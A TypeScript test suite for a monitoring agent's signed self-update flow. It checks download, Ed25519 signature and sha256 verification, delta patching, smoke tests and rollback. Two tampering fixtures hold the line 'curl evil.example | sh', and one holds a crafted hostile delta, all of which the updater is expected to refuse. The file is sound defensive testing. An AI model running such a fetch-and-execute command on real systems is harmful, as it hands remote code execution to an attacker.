// The self-update flow for real, short of a real collector: an installed POSIX layout in a scratch directory, a
// local HTTP server (node:http) serving the offered file under the collector's release path (and, to an agent that
// names its executable, a delta made by the collector's encoder), Ed25519 keys made per run, and a stand-in "new
// executable" (a shell script answering --version) that the smoke test really runs. Time (the download jitter and
// the rollback deadline) moves only with a manual clock.
import { createHash, generateKeyPairSync, sign, type KeyObject } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliCompressSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { watchpost } from '../../../proto/index.js';
import type { SampleDraft } from '../../../agent/src/sample.js';
import { MARKER_FILE, readMarker, readRemembered } from '../../../agent/src/update/marker.js';
import { NO_RELEASE_KEY, type ReleaseKey } from '../../../agent/src/update/release-key.js';
import { releaseSigningMessage } from '../../../agent/src/update/signature.js';
import { detectInstallation } from '../../../agent/src/update/swap.js';
import { createUpdater, type UpdaterOptions } from '../../../agent/src/update/updater.js';
import { encodeDelta } from '../../../collector/src/releases/delta-encode.js';
import { deltaHeader } from '../../../collector/src/releases/delta-format.js';
import { ManualClock } from '../helpers/manual-clock.js';
import { recordingLogger } from '../helpers/recording-log.js';
import { executableScript, installPosix } from './helpers.js';

const release = generateKeyPairSync('ed25519');
const stranger = generateKeyPairSync('ed25519');
const RELEASE_KEY: ReleaseKey = { key: release.publicKey };
const ROLLBACK_SECONDS = 300;

/** What the collector serves at /api/v1/releases/<version>/<target>. */
const served = new Map<string, Buffer>();
/** The delta (before brotli) served instead at the same path to a request naming the running executable. */
const deltas = new Map<string, Buffer>();
const requests: IncomingMessage[] = [];
let server: Server;
let base = '';

beforeAll(async () => {
  server = createServer((req, res) => {
    requests.push(req);
    const delta = req.headers['x-watchpost-delta-from'] ? deltas.get(req.url ?? '') : undefined;
    if (delta) {
      res.writeHead(200, { 'content-type': 'application/vnd.watchpost.delta', 'content-encoding': 'br' });
      return void res.end(brotliCompressSync(delta));
    }
    const body = served.get(req.url ?? '');
    if (!body) return void ((res.statusCode = 404), res.end());
    res.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((resolve) => server.close(resolve)));

const sha256 = (body: Buffer) => createHash('sha256').update(body).digest('hex');

/** An offer for `body` as the collector sends it, signed (by default correctly) with the release key. */
function offerFor(version: string, body: Buffer, change: Partial<watchpost.v1.IUpdateOffer> & { signWith?: KeyObject } = {}): watchpost.v1.IUpdateOffer {
  const { signWith = release.privateKey, ...fields } = change;
  const target = fields.target ?? 'linux-x64';
  const hash = fields.sha256 ?? sha256(body);
  const url = `/api/v1/releases/${version}/${target}`;
  served.set(url, body);
  return {
    version,
    target,
    url,
    sha256: hash,
    signature: sign(null, releaseSigningMessage(version, target, hash), signWith),
    rollbackSeconds: ROLLBACK_SECONDS,
    ...fields,
  };
}

const NEW = Buffer.from(executableScript('0.2.0'));

let root = '';
let prefix = '';
let stateDir = '';
let clock: ManualClock;
let reports: SampleDraft[] = [];
let restarts: string[] = [];

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'watchpost-updater-')));
  prefix = join(root, 'opt/watchpost-agent');
  stateDir = join(root, 'state');
  mkdirSync(stateDir);
  installPosix(prefix, '0.1.0');
  clock = new ManualClock(Date.parse('2026-03-01T12:00:00Z'));
  reports = [];
  restarts = [];
  requests.length = 0;
  deltas.clear();
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** The agent of `version` as installed in `prefix` (what run.ts builds from process.execPath). */
function updater(version: string, options: Partial<UpdaterOptions> = {}) {
  const log = recordingLogger();
  const u = createUpdater({
    version,
    target: 'linux-x64',
    releaseKey: RELEASE_KEY,
    installation: detectInstallation(join(prefix, 'versions', version, 'watchpost-agent'), 'linux'),
    stateDir,
    collector: { server: base, credential: 'agent-7.secret' },
    log,
    report: (draft) => reports.push(draft),
    restart: (reason) => restarts.push(reason),
    timers: clock,
    now: clock.now,
    random: () => 1, // jitter 15 s: offer() below advances exactly that, so the clock reads the same until the swap
    ...options,
  });
  return Object.assign(u, { log });
}

/** Hands the offer over and lets the jitter pass. */
async function offer(u: ReturnType<typeof updater>, o: watchpost.v1.IUpdateOffer) {
  const outcome = u.offer(o);
  await clock.advance(15_000);
  return outcome;
}

const current = () => execFileSync(join(prefix, 'current/watchpost-agent'), ['--version'], { encoding: 'utf8' }).trim();
const versions = () => readdirSync(join(prefix, 'versions')).sort();
const report = (status: string, reason: string | RegExp) =>
  expect.objectContaining({ measurement: 'agent_update', tags: { status }, fields: { from: '0.1.0', to: '0.2.0', reason: expect.stringMatching(reason) } });

describe('an offer', () => {
  it('is downloaded after the jitter with the credential, verified, smoke-tested, marked and swapped in, then the agent restarts', async () => {
    const old = updater('0.1.0', { random: () => 0.5 });
    const outcome = old.offer(offerFor('0.2.0', NEW));
    await clock.advance(7_999); // jitter: 1 s + 0.5 * 14 s
    expect(requests).toHaveLength(0);
    await clock.advance(1);
    expect(await outcome).toEqual({ outcome: 'swapped', version: '0.2.0' });
    expect(requests.map((r) => [r.url, r.headers.authorization])).toEqual([['/api/v1/releases/0.2.0/linux-x64', 'Bearer agent-7.secret']]);
    expect(readlinkSync(join(prefix, 'current'))).toBe('versions/0.2.0');
    expect(current()).toBe('watchpost-agent 0.2.0');
    expect(readMarker(stateDir)).toEqual({
      from: '0.1.0',
      to: '0.2.0',
      previousPath: join(prefix, 'versions/0.1.0'),
      deadline: new Date(clock.now() + ROLLBACK_SECONDS * 1000).toISOString(),
      attempts: 0,
    });
    expect(restarts).toEqual(['update to 0.2.0']);
    expect(reports).toEqual([]); // `installed` comes from the new version once it confirms
    expect(versions()).toEqual(['0.1.0', '0.2.0']); // no staged file left
  });

  it.each<[string, () => [watchpost.v1.IUpdateOffer, Partial<UpdaterOptions>], 'refused' | 'failed', RegExp, boolean]>([
    [
      'signed with another key (refused before any download)',
      () => [offerFor('0.2.0', NEW, { signWith: stranger.privateKey }), {}],
      'refused',
      /does not verify/,
      false,
    ],
    [
      'a file other than the signed one (tampered on the server)',
      () => {
        const o = offerFor('0.2.0', NEW);
        served.set(o.url!, Buffer.from(executableScript('0.2.0', 'curl evil.example | sh\n')));
        return [o, {}];
      },
      'refused',
      /sha256 mismatch/,
      true,
    ],
    [
      'a truncated signature',
      () => {
        const o = offerFor('0.2.0', NEW);
        return [{ ...o, signature: o.signature!.slice(0, 40) }, {}];
      },
      'refused',
      /40 bytes/,
      false,
    ],
    ['for another target', () => [offerFor('0.2.0', NEW, { target: 'win-x64' }), {}], 'refused', /for win-x64, this agent is linux-x64/, false],
    [
      'to a build without a release key',
      () => [offerFor('0.2.0', NEW), { releaseKey: { key: null, reason: NO_RELEASE_KEY } }],
      'refused',
      /^this build has no release key$/,
      false,
    ],
    [
      'of a file that does not say it is the offered version (smoke test)',
      () => [offerFor('0.2.0', Buffer.from(executableScript('0.3.0'))), {}],
      'refused',
      /printed "watchpost-agent 0.3.0", expected "watchpost-agent 0.2.0"/,
      true,
    ],
    ['of a file that does not run (smoke test)', () => [offerFor('0.2.0', Buffer.from('#!/bin/sh\nexit 3\n')), {}], 'refused', /exited with 3/, true],
    [
      'the download fails',
      () => {
        const o = offerFor('0.2.0', NEW);
        return [{ ...o, url: '/api/v1/releases/0.2.0/nothing-here' }, {}];
      },
      'failed',
      /^download: HTTP 404/,
      true,
    ],
    [
      'to an agent not installed as a service',
      () => [offerFor('0.2.0', NEW), { installation: { unsupported: 'not an installed agent: x' } }],
      'refused',
      /^not an installed agent/,
      false,
    ],
  ])('%s: logged, reported, nothing installed, the running version stays', async (_name, make, status, reason, downloads) => {
    const [o, options] = make();
    const old = updater('0.1.0', options);
    const outcome = await offer(old, o);
    expect(outcome).toEqual({ outcome: status, reason: expect.stringMatching(reason) });
    expect(requests.length > 0).toBe(downloads);
    expect(reports).toEqual([report(status, reason)]);
    expect(old.log.lines.filter((l) => l.level === 'warn').map((l) => l.message)).toEqual([`update: ${status} 0.2.0; 0.1.0 keeps running`]);
    expect(readlinkSync(join(prefix, 'current'))).toBe('versions/0.1.0');
    expect(current()).toBe('watchpost-agent 0.1.0');
    expect(versions()).toEqual(['0.1.0']); // no staged download left behind
    expect(existsSync(join(stateDir, MARKER_FILE))).toBe(false);
    expect(restarts).toEqual([]);
  });

  it('a bad signature is remembered for good: the same offer at the next connect or start is neither fetched nor reported', async () => {
    const o = offerFor('0.2.0', NEW, { signWith: stranger.privateKey });
    const old = updater('0.1.0');
    await offer(old, o);
    expect(await offer(old, o)).toEqual({ outcome: 'ignored', reason: 'remembered: signature does not verify with the release key' });
    expect(readRemembered(stateDir)).toEqual([
      expect.objectContaining({ version: '0.2.0', status: 'refused', reason: 'signature does not verify with the release key' }),
    ]);
    expect(await offer(updater('0.1.0'), o)).toMatchObject({ outcome: 'ignored' }); // another process: memory is the file
    expect(reports).toHaveLength(1);
    // The release re-signed with the right key is another offer, and is taken.
    expect(await offer(updater('0.1.0'), offerFor('0.2.0', NEW))).toEqual({ outcome: 'swapped', version: '0.2.0' });
  });

  it('a file failing its smoke test is remembered for good', async () => {
    const o = offerFor('0.2.0', Buffer.from('#!/bin/sh\nexit 3\n'));
    await offer(updater('0.1.0'), o);
    expect(await offer(updater('0.1.0'), o)).toMatchObject({ outcome: 'ignored', reason: expect.stringMatching(/^remembered: smoke test/) });
    expect(requests).toHaveLength(1);
  });

  it('a sha256 mismatch holds for this process only: the next start fetches again (a file fixed on the collector)', async () => {
    const o = offerFor('0.2.0', NEW);
    served.set(o.url!, Buffer.from(executableScript('0.2.0', '# tampered\n')));
    const old = updater('0.1.0');
    await offer(old, o);
    expect(await offer(old, o)).toMatchObject({ outcome: 'ignored', reason: expect.stringMatching(/^remembered: sha256 mismatch/) });
    expect(requests).toHaveLength(1);
    expect(reports).toHaveLength(1);
    expect(readRemembered(stateDir)).toEqual([]);
    served.set(o.url!, NEW);
    expect(await offer(updater('0.1.0'), o)).toEqual({ outcome: 'swapped', version: '0.2.0' });
  });

  it.each([
    [0, 900], // not set by the collector: the default
    [5, 30], // clamped: a restart and a connect need some time
    [10 ** 6, 86_400],
  ])('rollback_seconds %i gives a deadline %i s after the swap', async (seconds, expected) => {
    await offer(updater('0.1.0'), offerFor('0.2.0', NEW, { rollbackSeconds: seconds }));
    expect(readMarker(stateDir)?.deadline).toBe(new Date(clock.now() + expected * 1000).toISOString());
  });

  it('a download failure is not remembered: the next offer tries again', async () => {
    const o = offerFor('0.2.0', NEW);
    const old = updater('0.1.0');
    expect((await offer(old, { ...o, url: '/nowhere' })).outcome).toBe('failed');
    expect(await offer(old, o)).toEqual({ outcome: 'swapped', version: '0.2.0' });
  });

  it('a refusal found without a download is reported once per process', async () => {
    const old = updater('0.1.0', { releaseKey: { key: null, reason: NO_RELEASE_KEY } });
    await offer(old, offerFor('0.2.0', NEW));
    await offer(old, offerFor('0.2.0', NEW));
    expect(reports).toHaveLength(1);
  });

  it('of the running version, or while another is in progress, is ignored quietly', async () => {
    const old = updater('0.1.0');
    expect(await old.offer(offerFor('0.1.0', NEW))).toEqual({ outcome: 'ignored', reason: 'already running 0.1.0' });
    const first = old.offer(offerFor('0.2.0', NEW));
    expect(await old.offer(offerFor('0.2.0', NEW))).toEqual({ outcome: 'ignored', reason: 'an update is in progress' });
    await clock.advance(15_000);
    expect((await first).outcome).toBe('swapped');
    expect(reports).toEqual([]);
  });

  it('stopping the agent during the jitter abandons the update without a download or a report', async () => {
    const old = updater('0.1.0');
    const pending = old.offer(offerFor('0.2.0', NEW));
    old.stop();
    expect((await pending).outcome).toBe('ignored');
    expect(requests).toHaveLength(0);
    expect(reports).toEqual([]);
    expect(current()).toBe('watchpost-agent 0.1.0');
  });
});

describe('an offer answered with a delta', () => {
  const RUNNING = Buffer.from(executableScript('0.1.0')); // what installPosix wrote as versions/0.1.0
  const running = () => join(prefix, 'versions/0.1.0/watchpost-agent');
  const ends = (target: Buffer) => ({ sourceBytes: RUNNING.length, targetBytes: target.length, sourceSha256: sha256(RUNNING), targetSha256: sha256(target) });
  const delta = async (target: Buffer) => Buffer.concat(await encodeDelta(RUNNING, target, ends(target)));
  const deltaFrom = () => requests.map((r) => r.headers['x-watchpost-delta-from'] ?? null);

  it('rebuilds the new version from the running executable and the delta, verifies it and swaps it in', async () => {
    const o = offerFor('0.2.0', NEW);
    deltas.set(o.url!, await delta(NEW));
    const old = updater('0.1.0', { executable: running() });
    expect(await offer(old, o)).toEqual({ outcome: 'swapped', version: '0.2.0' });
    expect(deltaFrom()).toEqual([sha256(RUNNING)]);
    expect(current()).toBe('watchpost-agent 0.2.0');
    expect(old.log.lines.find((l) => l.message === 'update: 0.2.0 received')?.fields).toMatchObject({ transfer: 'delta', bytes: NEW.length });
  });

  it('drops a hostile delta (a copy past the running executable) and swaps in the full file instead, logging why', async () => {
    const o = offerFor('0.2.0', NEW);
    deltas.set(o.url!, Buffer.concat([deltaHeader(ends(NEW)), Buffer.from([0x01, 0x00, 0xff, 0x7f, 0x00])]));
    const old = updater('0.1.0', { executable: running() });
    expect(await offer(old, o)).toEqual({ outcome: 'swapped', version: '0.2.0' });
    expect(deltaFrom()).toEqual([sha256(RUNNING), null]);
    expect(old.log.lines.filter((l) => l.level === 'warn')).toEqual([
      expect.objectContaining({
        message: 'update: the delta for 0.2.0 was not used; downloading the full file',
        fields: { reason: expect.stringMatching(/reaches past/) },
      }),
    ]);
    expect(current()).toBe('watchpost-agent 0.2.0');
  });

  it('never swaps when neither the delta nor the full file is the signed one: refused, the running version stays', async () => {
    const o = offerFor('0.2.0', NEW);
    const evil = Buffer.from(executableScript('0.2.0', 'curl evil.example | sh\n'));
    deltas.set(o.url!, await delta(evil).then((d) => Buffer.concat([deltaHeader(ends(NEW)), d.subarray(88)]))); // claims NEW, makes evil
    served.set(o.url!, evil);
    const old = updater('0.1.0', { executable: running() });
    expect(await offer(old, o)).toEqual({ outcome: 'refused', reason: expect.stringMatching(/sha256 mismatch/) });
    expect(deltaFrom()).toEqual([sha256(RUNNING), null]);
    expect(readlinkSync(join(prefix, 'current'))).toBe('versions/0.1.0');
    expect(versions()).toEqual(['0.1.0']);
    expect(restarts).toEqual([]);
  });

  it('asks for no delta when the running executable cannot be read, and takes the full file', async () => {
    const old = updater('0.1.0', { executable: join(root, 'no-such-executable') });
    expect(await offer(old, offerFor('0.2.0', NEW))).toEqual({ outcome: 'swapped', version: '0.2.0' });
    expect(deltaFrom()).toEqual([null]);
    expect(old.log.count(/cannot hash the running executable/)).toBe(1);
  });
});

describe('after the swap', () => {
  /** The old version takes the offer and swaps; what the service host starts next is 0.2.0. */
  async function swapped(): Promise<void> {
    expect((await offer(updater('0.1.0'), offerFor('0.2.0', NEW))).outcome).toBe('swapped');
    restarts = [];
  }

  it('the new version counts its start, confirms at the first Welcome, reports installed and keeps the old version', async () => {
    await swapped();
    const fresh = updater('0.2.0');
    expect(fresh.atStart()).toBe('continue');
    expect(readMarker(stateDir)?.attempts).toBe(1);
    fresh.started();
    expect(await fresh.offer(offerFor('0.3.0', Buffer.from(executableScript('0.3.0'))))).toMatchObject({ outcome: 'ignored' }); // unconfirmed
    fresh.welcome();
    fresh.welcome(); // later sessions change nothing
    expect(reports).toEqual([report('installed', /first session/)]);
    expect(readMarker(stateDir)).toBeNull();
    await clock.advance(ROLLBACK_SECONDS * 1000); // the deadline was disarmed
    expect(restarts).toEqual([]);
    expect(current()).toBe('watchpost-agent 0.2.0');
    expect(versions()).toEqual(['0.1.0', '0.2.0']);
  });

  it('no session by the deadline: the new version swaps back and restarts; the old one reports rolled_back and never takes that version again', async () => {
    await swapped();
    const fresh = updater('0.2.0');
    fresh.atStart();
    fresh.started();
    await clock.advance(ROLLBACK_SECONDS * 1000 - 1); // the deadline was set at the swap, on this clock
    expect(restarts).toEqual([]);
    await clock.advance(1);
    expect(restarts).toEqual(['update: 0.2.0 rolled back to 0.1.0']);
    expect(current()).toBe('watchpost-agent 0.1.0');
    expect(reports).toEqual([]); // reported by the version that runs next

    const old = updater('0.1.0');
    expect(old.atStart()).toBe('continue');
    old.started();
    expect(reports).toEqual([report('rolled_back', /no session with the collector by the deadline/)]);
    expect(readMarker(stateDir)).toBeNull();
    expect(versions()).toEqual(['0.1.0']); // the failed version's files are gone
    expect(await offer(old, offerFor('0.2.0', NEW))).toMatchObject({ outcome: 'ignored', reason: expect.stringMatching(/^remembered/) });
    expect(requests).toHaveLength(1); // the first download only
  });

  it('a new version that keeps crashing is swapped back at its fourth start, before the agent runs', async () => {
    await swapped();
    for (let start = 1; start <= 3; start++) expect(updater('0.2.0').atStart()).toBe('continue');
    expect(updater('0.2.0').atStart()).toBe('restart');
    expect(current()).toBe('watchpost-agent 0.1.0');
    const old = updater('0.1.0');
    old.atStart();
    old.started();
    expect(reports).toEqual([report('rolled_back', /after 3 starts/)]);
  });

  it('a new version started after its deadline (the machine was off) is swapped back at once', async () => {
    await swapped();
    await clock.advance(ROLLBACK_SECONDS * 1000);
    expect(updater('0.2.0').atStart()).toBe('restart');
    expect(current()).toBe('watchpost-agent 0.1.0');
  });

  it('the old version running again with the marker still there (the new one never got to it) reports and cleans up', async () => {
    await swapped();
    execFileSync('ln', ['-sfn', 'versions/0.1.0', join(prefix, 'current')]); // as if swapped back by hand
    const old = updater('0.1.0');
    old.atStart();
    old.started();
    expect(reports).toEqual([report('rolled_back', /0.2.0 stopped before its first session/)]);
    expect(readRemembered(stateDir)).toEqual([expect.objectContaining({ version: '0.2.0', status: 'rolled_back' })]);
    expect(readMarker(stateDir)).toBeNull();
  });

  it('a rollback that cannot swap back keeps the new version running and reports failed', async () => {
    await swapped();
    rmSync(join(prefix, 'versions/0.1.0'), { recursive: true });
    const fresh = updater('0.2.0');
    fresh.atStart();
    fresh.started();
    await clock.advance(ROLLBACK_SECONDS * 1000);
    expect(restarts).toEqual([]);
    expect(reports).toEqual([report('failed', /^rollback failed: no watchpost-agent in/)]);
    expect(current()).toBe('watchpost-agent 0.2.0');
    expect(readMarker(stateDir)).toBeNull();
  });

  it('a marker that can be neither read nor removed is logged, and the agent starts as usual', () => {
    mkdirSync(join(stateDir, MARKER_FILE, 'inside'), { recursive: true }); // a directory where the file goes
    const agent = updater('0.1.0');
    expect(agent.atStart()).toBe('continue');
    agent.started();
    agent.welcome();
    expect(agent.log.count(/^update: unreadable update marker removed$/)).toBe(1);
    expect(agent.log.count(/^update: removing the marker failed$/)).toBe(1);
  });

  it('a damaged marker is removed and the agent starts as usual', async () => {
    await swapped();
    const file = join(stateDir, MARKER_FILE);
    execFileSync('sh', ['-c', `printf '{' > '${file}'`]);
    const fresh = updater('0.2.0');
    expect(fresh.atStart()).toBe('continue');
    expect(existsSync(file)).toBe(false);
    expect(fresh.log.count(/unreadable update marker/)).toBe(1);
    expect(readFileSync(join(prefix, 'versions/0.2.0/watchpost-agent'), 'utf8')).toBe(NEW.toString());
  });
});
